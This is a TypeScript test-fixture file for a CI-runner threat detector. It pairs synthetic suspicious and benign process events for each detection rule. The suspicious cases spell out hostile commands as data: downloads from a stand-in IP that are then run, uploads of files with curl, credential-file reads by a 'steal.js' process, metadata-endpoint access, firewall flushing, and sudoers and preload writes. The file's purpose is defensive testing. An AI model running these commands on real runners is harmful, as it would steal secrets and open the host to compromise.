import type { PlainEvent, PlainImage } from "./events.ts";

// Lineages as they are on a runner, newest first.
const step: PlainImage[] = [
  { exec_path: "/usr/bin/bash", argv: ["/usr/bin/bash", "-e", "/home/runner/work/_temp/1.sh"] },
  { exec_path: "/home/runner/runners/bin/Runner.Worker", argv: ["Runner.Worker", "spawnclient"] },
];
const npmCi: PlainImage[] = [
  { exec_path: "/opt/node/bin/node", argv: ["node", "/opt/node/bin/npm", "ci"] },
  { exec_path: "/opt/node/bin/npm", argv: ["/usr/bin/env", "node", "/opt/node/bin/npm", "ci"] },
  ...step,
];
const installScript: PlainImage[] = [
  { exec_path: "/opt/node/bin/node", argv: ["node", "install.js"] },
  { exec_path: "/usr/bin/sh", argv: ["sh", "-c", "node install.js"] },
  ...npmCi,
];
const npmTest: PlainImage[] = [
  { exec_path: "/usr/bin/sh", argv: ["sh", "-c", "./test.sh"] },
  { exec_path: "/opt/node/bin/npm", argv: ["/usr/bin/env", "node", "/opt/node/bin/npm", "run", "ci"] },
  ...step,
];
const pipInstall: PlainImage[] = [
  { exec_path: "/usr/bin/python3", argv: ["python3", "-m", "pip", "install", "-r", "requirements.txt"] },
  ...step,
];

export const lineages = { step, npmCi, installScript, npmTest, pipInstall };

/** An execution. */
export function exec(command: string, ancestors: PlainImage[] = step, isMemfd = false): PlainEvent {
  const [exec_path = "", ...args] = command.split(" ");
  const name = exec_path.slice(exec_path.lastIndexOf("/") + 1);
  return {
    event_type: "process_exec",
    process: { exec_path, argv: [name, ...args], ancestors },
    payload: { is_memfd: isMemfd },
  };
}

/** What a program that runs `command` does. */
export function doing(
  command: string,
  event_type: PlainEvent["event_type"],
  payload: PlainEvent["payload"],
  ancestors: PlainImage[] = step,
): PlainEvent {
  return {
    event_type,
    process: { exec_path: "", ...exec(command, ancestors).process },
    payload: payload ?? {},
  };
}

const read = (path: string, command: string, ancestors?: PlainImage[]) =>
  doing(command, "file_open", { path, is_read: true }, ancestors);
const write = (path: string, command: string, ancestors?: PlainImage[]) =>
  doing(command, "file_open", { path, is_write: true, flags: 577 }, ancestors);
const move = (to_path: string, command: string, ancestors?: PlainImage[], from_path = "/tmp/x") =>
  doing(command, "file_move", { from_path, to_path }, ancestors);
const link = (created_path: string, command: string, ancestors?: PlainImage[]) =>
  doing(command, "file_link", { created_path, existing_path: "/tmp/x", is_symlink: true }, ancestors);
const connect = (remote_ip: string, command: string, ancestors?: PlainImage[], remote_port = 80) =>
  doing(command, "network_connect", { remote_ip, remote_port, protocol: "tcp", family: "ipv4" }, ancestors);

const stealer = "/opt/node/bin/node steal.js";
const home = "/home/runner";

/** For each event rule of the baseline, an event that matches and the nearest honest one. */
export const baselineCases: Record<string, { yes: PlainEvent; no: PlainEvent }> = {
  downloader_below_installer: {
    yes: exec("/usr/bin/curl -o /tmp/ld.py http://192.0.2.1/", installScript),
    no: exec("/usr/bin/curl -o /tmp/ld.py http://192.0.2.1/", npmTest),
  },
  temporary_program_below_installer: {
    yes: exec("/tmp/bun-dl-1/bun run x.js", installScript),
    no: exec("/tmp/pip-build-env-1/overlay/bin/ninja", pipInstall),
  },
  temporary_script_below_installer: {
    yes: exec("/usr/bin/python3 /tmp/ld.py", installScript),
    no: exec("/opt/node/bin/node /tmp/app/node_modules/esbuild/install.js", installScript),
  },
  decoder_below_installer: {
    yes: exec("/usr/bin/base64 -d", installScript),
    no: exec("/usr/bin/base64 -w 0", installScript),
  },
  foreign_runtime_below_installer: {
    yes: exec(`${home}/.bun/bin/bun bun_environment.js`, installScript),
    no: exec(`${home}/.bun/bin/bun install`, step),
  },
  unrestrained_assistant_below_installer: {
    yes: exec("/usr/local/bin/claude --dangerously-skip-permissions -p x", installScript),
    no: exec("/usr/local/bin/claude --dangerously-skip-permissions -p x", step),
  },
  startup_file_written_below_installer: {
    yes: write(`${home}/.bashrc`, stealer, installScript),
    no: write(`${home}/.bashrc`, "/usr/bin/rustup-init -y", step),
  },
  startup_file_moved_below_installer: {
    yes: move(`${home}/.config/systemd/user/x.service`, stealer, installScript),
    no: move("/work/node_modules/a/.profile", stealer, npmCi),
  },
  startup_file_linked_below_installer: {
    yes: link("/etc/cron.d/x", stealer, pipInstall),
    no: link("/etc/cron.d/x", "/usr/bin/ln -s a b", step),
  },
  project_automation_written_by_install_script: {
    yes: write("/work/app/.github/workflows/x.yml", stealer, installScript),
    no: write("/work/app/.github/workflows/x.yml", "/usr/bin/git checkout", step),
  },
  preload_file_written: {
    yes: write("/host/etc/ld.so.preload", "/bin/sh -c x"),
    no: read("/etc/ld.so.preload", "/bin/ls"),
  },
  preload_file_moved: {
    yes: move("/etc/ld.so.preload", "/bin/mv a b"),
    no: move("/etc/ld.so.cache", "/sbin/ldconfig"),
  },
  runner_registered: {
    yes: exec("/tmp/r/config.sh --url https://github.com/a/b --token X"),
    no: exec("/work/app/config.sh --prefix /usr"),
  },
  sudoers_written: {
    yes: write("/host/etc/sudoers.d/runner", "/bin/sh -c x", [
      { exec_path: "/usr/bin/containerd-shim-runc-v2" },
    ]),
    no: write("/etc/sudoers.d/user", "/bin/sh -c x", [{ exec_path: "/usr/bin/containerd-shim-runc-v2" }]),
  },
  sudoers_moved: {
    yes: move("/etc/sudoers", "/usr/sbin/visudo"),
    no: move("/etc/sudoers.d/README", "/usr/bin/dpkg --unpack"),
  },
  sudoers_linked: {
    yes: link("/etc/sudoers.d/x", "/bin/ln -s a b"),
    no: link("/etc/sudo.conf", "/bin/ln -s a b"),
  },
  host_root_in_container: {
    yes: exec("/usr/bin/docker run --rm --privileged -v /:/host ubuntu"),
    no: exec("/usr/bin/docker run --privileged -v /:/rootfs:ro -v /work:/work cadvisor"),
  },
  container_socket_below_installer: {
    yes: doing(stealer, "unix_socket_connect", { path: "/run/docker.sock" }, installScript),
    no: doing("/usr/bin/docker ps", "unix_socket_connect", { path: "/var/run/docker.sock" }, step),
  },
  program_in_memory: {
    yes: exec("/memfd:x", step, true),
    no: exec("/memfd:runc_cloned:/proc/self/exe init", [{ exec_path: "/usr/bin/runc" }], true),
  },
  resolver_configuration_written: {
    yes: write("/etc/systemd/resolved.conf.d/x.conf", "/usr/bin/tee"),
    no: write("/etc/systemd/resolved.conf", "/usr/bin/dpkg --unpack"),
  },
  resolver_configuration_moved: {
    yes: move("/etc/systemd/resolved.conf", "/usr/bin/sed -i"),
    no: move("/etc/systemd/resolved.conf", "/usr/bin/dpkg --unpack"),
  },
  resolver_stopped: {
    yes: exec("/usr/bin/systemctl stop systemd-resolved"),
    no: exec("/usr/bin/systemctl restart systemd-resolved"),
  },
  firewall_flushed: {
    yes: exec("/usr/sbin/iptables -F OUTPUT"),
    no: exec("/usr/sbin/iptables -t nat -F DOCKER"),
  },
  text_decoded: { yes: exec("/usr/bin/base64 --decode"), no: exec("/usr/bin/base64 -w 0") },
  temporary_script_run: {
    yes: exec("/bin/bash /tmp/run.sh"),
    no: exec("/bin/sh /tmp/postinstall-1.sh", npmCi),
  },
  manifest_replaced_by_install_script: {
    yes: move("/work/node_modules/a/package.json", stealer, installScript, "/work/node_modules/a/package.md"),
    no: move("/work/node_modules/a/package.json", stealer, npmCi, "/work/node_modules/.a-x1/package.json"),
  },
  process_memory_read: {
    yes: read("/proc/1234/task/1235/mem", "/usr/bin/python3"),
    no: read("/proc/meminfo", "/usr/bin/top"),
  },
  process_environment_read: {
    yes: read("/proc/1234/environ", "/usr/bin/cat /proc/1234/environ"),
    no: read("/proc/1234/environ", "/usr/bin/ps auxe"),
  },
  runner_key_read: {
    yes: read(`${home}/runners/.credentials_rsaparams`, "/usr/bin/cat x"),
    no: read(`${home}/runners/.credentials_rsaparams`, `${home}/runners/bin/Runner.Listener run`),
  },
  metadata_below_script_installer: {
    yes: connect("169.254.169.254", stealer, installScript),
    no: connect("169.254.169.254", "/usr/bin/python3 -c x", pipInstall),
  },
  metadata_below_installer: {
    yes: connect("169.254.170.2", "/usr/bin/python3 -c x", pipInstall),
    no: connect("169.254.169.254", "/usr/local/bin/aws s3 ls", step),
  },
  secret_scanner_below_installer: {
    yes: exec("/tmp/trufflehog filesystem /", installScript),
    no: exec("/usr/local/bin/gitleaks detect", step),
  },
  file_encrypted: {
    yes: exec("/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -in a -out b"),
    no: exec("/usr/bin/openssl enc -d -aes-256-cbc -in a -out b"),
  },
  key_encrypted: {
    yes: exec("/usr/bin/openssl pkeyutl -encrypt -pubin -inkey k"),
    no: exec("/usr/bin/openssl pkeyutl -sign -inkey k"),
  },
  upload_below_installer: {
    yes: exec("/usr/bin/curl -d @/tmp/x https://example.com", installScript),
    no: exec("/usr/bin/curl -d @/tmp/x https://example.com", step),
  },
  mining_pool_named: {
    yes: exec("/tmp/m -o stratum+tcp://pool.example:8080 -u w"),
    no: exec("/tmp/m -o https://pool.example"),
  },
  ...credentialCases({
    ssh_key_read: "/.ssh/id_ed25519",
    aws_credential_read: "/.aws/credentials",
    gcp_credential_read: "/.config/gcloud/credentials.db",
    azure_credential_read: "/.azure/azureProfile.json",
    kubernetes_credential_read: "/.kube/config",
    docker_credential_read: "/.docker/config.json",
    npm_credential_read: "/.npmrc",
    pypi_credential_read: "/.pypirc",
    git_credential_read: "/.git-credentials",
    github_credential_read: "/.config/gh/hosts.yml",
    vault_credential_read: "/.vault-token",
    gpg_key_read: "/.gnupg/pubring.kbx",
    shell_history_read: "/.bash_history",
    environment_file_read: "/work/app/.env",
    assistant_credential_read: "/.claude.json",
  }),
};

/** Reading is a case below an installation; by the tool that it belongs to, in a step, it is not. */
function credentialCases(paths: Record<string, string>): Record<string, { yes: PlainEvent; no: PlainEvent }> {
  return Object.fromEntries(
    Object.entries(paths).map(([id, path]) => [
      id,
      {
        yes: read(home + path, stealer, installScript),
        no: read(home + path, "/usr/bin/its-tool login", step),
      },
    ]),
  );
}

/** Honest work that no rule may fail a job for, from the list of what must stay quiet. */
export const honest: Record<string, PlainEvent[]> = {
  "npm ci with install scripts": [
    exec("/opt/node/bin/npm ci"),
    read(`${home}/.npmrc`, "/opt/node/bin/node /opt/node/bin/npm ci", npmCi),
    write("/work/node_modules/a/.github/workflows/ci.yml", "/opt/node/bin/node /opt/node/bin/npm ci", npmCi),
    write("/work/node_modules/a/test/.bashrc", "/opt/node/bin/node /opt/node/bin/npm ci", npmCi),
    write("/work/node_modules/a/.vscode/tasks.json", stealer, installScript),
    exec("/usr/bin/sh -c node install.js", npmCi),
    exec("/opt/node/bin/node install.js", installScript),
    exec("/work/node_modules/esbuild/bin/esbuild --version", installScript),
    exec(
      "/usr/bin/python3 /opt/node/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py",
      installScript,
    ),
    exec("/usr/bin/make BUILDTYPE=Release", installScript),
    connect("104.16.24.34", "/opt/node/bin/node install.js", installScript, 443),
    read("/work/app/.env", "/opt/node/bin/node install.js", installScript),
  ],
  "pip install with a wheel build": [
    exec("/usr/bin/python3 -m pip install .", step),
    read(`${home}/.netrc`, "/usr/bin/python3 -m pip install x", step),
    exec("/tmp/pip-build-env-x/overlay/bin/cmake .", pipInstall),
    exec("/tmp/pip-build-env-x/overlay/bin/ninja", pipInstall),
    exec("/usr/bin/python3 /tmp/pip-install-x/a/setup.py bdist_wheel", pipInstall),
    write("/tmp/pip-install-x/a/.github/workflows/ci.yml", "/usr/bin/python3 x", pipInstall),
    exec("/usr/bin/gcc -c a.c", pipInstall),
  ],
  "cargo build and make": [
    exec("/usr/bin/cargo build"),
    exec("/work/target/debug/build/a-1/build-script-build"),
    exec("/usr/bin/make -j4"),
    exec("/usr/bin/cc -o conftest conftest.c"),
    exec("./conftest"),
  ],
  "git clone and checkout": [
    exec("/usr/bin/git clone https://github.com/a/b"),
    read(`${home}/.ssh/id_ed25519`, "/usr/bin/ssh git@github.com"),
    read(`${home}/.git-credentials`, "/usr/lib/git-core/git-credential-store get"),
    write("/work/b/.git/config", "/usr/bin/git config --local http.extraheader x"),
    write("/work/b/.github/workflows/ci.yml", "/usr/bin/git checkout main"),
  ],
  "docker from a step": [
    exec("/usr/bin/docker run --privileged -v /work:/work tonistiigi/binfmt"),
    doing("/usr/bin/docker ps", "unix_socket_connect", {
      path: "/var/run/docker.sock",
      socket_type: "stream",
    }),
    read(`${home}/.docker/config.json`, "/usr/bin/docker login"),
  ],
  "apt-get install": [
    exec("/usr/bin/apt-get install -y sudo systemd-resolved"),
    write("/etc/sudoers.d/README.dpkg-new", "/usr/bin/dpkg --unpack x"),
    move("/etc/sudoers", "/usr/bin/dpkg --configure x"),
    write("/etc/systemd/resolved.conf.dpkg-new", "/usr/bin/dpkg --unpack x"),
    read("/proc/1/environ", "/usr/sbin/needrestart -m a"),
    write("/etc/cron.d/e2scrub_all.dpkg-new", "/usr/bin/dpkg --unpack x"),
  ],
  "tools that read their own credentials": [
    read(`${home}/.config/gh/hosts.yml`, "/usr/bin/gh auth status"),
    read(`${home}/.aws/credentials`, "/usr/local/bin/aws s3 ls"),
    read(`${home}/.config/gcloud/credentials.db`, "/usr/bin/python3 /opt/gcloud/lib/gcloud.py"),
    read(`${home}/.kube/config`, "/usr/bin/kubectl get pods"),
    read(`${home}/.azure/msal_token_cache.json`, "/usr/bin/python3 -m azure.cli"),
    connect("169.254.169.254", "/usr/local/bin/aws s3 ls"),
  ],
  "looking at processes": [
    read("/proc/1/stat", "/usr/bin/ps aux"),
    read("/proc/1/cmdline", "/usr/bin/pgrep -f x"),
    read("/proc/1/status", "/usr/bin/top -b"),
    read("/proc/self/maps", "/usr/bin/java -version"),
    read("/proc/meminfo", "/usr/bin/free"),
  ],
};

/** What a correlation of the baseline puts together. */
export const together: Record<string, { yes: PlainEvent[]; no: PlainEvent[] }> = {
  staged_program_below_installer: {
    yes: [
      exec("/usr/bin/curl -o /tmp/ld.py http://192.0.2.1/", installScript),
      exec("/usr/bin/python3 /tmp/ld.py", installScript),
    ],
    no: [
      exec("/usr/bin/curl -o x.tgz https://example.com", installScript),
      exec("/usr/bin/tar xf x.tgz", installScript),
    ],
  },
  egress_control_removed: {
    yes: [exec("/usr/bin/systemctl stop systemd-resolved"), exec("/usr/sbin/iptables -F DOCKER-USER")],
    no: [
      exec("/usr/bin/systemctl stop systemd-resolved"),
      write("/etc/systemd/resolved.conf", "/usr/bin/tee"),
    ],
  },
  decoded_script_run: {
    yes: [exec("/usr/bin/base64 -d"), exec("/bin/bash /tmp/run.sh")],
    no: [exec("/usr/bin/base64 -d"), exec("/bin/bash /work/run.sh")],
  },
  encrypted_for_another: {
    yes: [exec("/usr/bin/openssl enc -aes-256-cbc -in a"), exec("/usr/bin/openssl pkeyutl -encrypt -pubin")],
    no: [exec("/usr/bin/openssl enc -aes-256-cbc -in a"), exec("/usr/bin/openssl rand -hex 32")],
  },
  credential_sweep: {
    yes: [
      read(`${home}/.npmrc`, "/usr/bin/cat x"),
      read(`${home}/.ssh/id_rsa`, "/usr/bin/tar cf x"),
      read(`${home}/.vault-token`, stealer, installScript),
    ],
    no: [
      read(`${home}/.aws/credentials`, "/usr/bin/cat x"),
      read(`${home}/.aws/config`, "/usr/bin/cat x"),
      read(`${home}/.ssh/id_rsa`, "/usr/bin/tar cf x"),
      read(`${home}/.vault-token`, "/usr/bin/vault status"),
    ],
  },
};
